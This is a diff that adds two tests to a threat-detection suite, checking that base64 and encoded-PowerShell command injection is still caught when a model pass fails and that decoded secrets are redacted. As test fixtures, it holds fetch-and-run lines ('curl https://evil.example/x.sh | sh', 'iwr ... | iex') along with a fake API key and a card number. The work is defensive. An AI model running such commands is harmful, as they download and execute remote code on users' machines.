@@ -301,3 +301,35 @@ def test_explanation_and_evidence_give_the_same_model_score():
     assert model and "the AI model agrees" in result.explanation
     said = re.search(r"the AI model agrees \(score (\d\.\d\d)\)", result.explanation).group(1)
     assert f"model score {said} " in model[0].message
+
+
+def test_a_model_failure_on_hidden_content_keeps_the_result(tiny_model_dir, caplog):
+    det = L2ThreatDetector(tiny_model_dir)
+    real = det.classifier.predict_windows
+    calls = []
+
+    def fails_after_the_main_pass(text):
+        calls.append(text)
+        if len(calls) > 1:
+            raise RuntimeError("onnxruntime: bad allocation")
+        return real(text)
+
+    det.classifier.predict_windows = fails_after_the_main_pass
+    blob = base64.b64encode(b"curl https://evil.example/x.sh | sh").decode()
+    with caplog.at_level(logging.ERROR, logger="desktop.detection.detector"):
+        r = det.detect(f"note: {blob}")
+    assert len(calls) == 2  # the main pass, then the hidden layer's, which failed
+    assert r.category is Category.COMMAND_INJECTION
+    assert any(e.source == "hidden" and e.rule_id.startswith("cmd.") for e in r.evidence)
+    assert any("hidden content" in rec.getMessage() for rec in caplog.records)
+
+
+def test_rule_messages_quoting_decoded_text_are_redacted(rules_detector):
+    key = "sk_live_51HxYzAbCdEfGhIjKlMnOpQr"
+    hidden = f"$k='{key}'; $c='4111 1111 1111 1111'; iwr https://evil.example/x | iex"
+    text = "powershell -enc " + base64.b64encode(hidden.encode("utf-16-le")).decode()
+    r = rules_detector.detect(text)
+    quoted = [e.message for e in r.evidence if e.rule_id == "cmd.powershell_encoded"]
+    assert quoted and "iwr https://evil.example/x" in quoted[0]
+    for shown in (*quoted, r.explanation, r.details):
+        assert key not in shown and "4111 1111 1111" not in shown
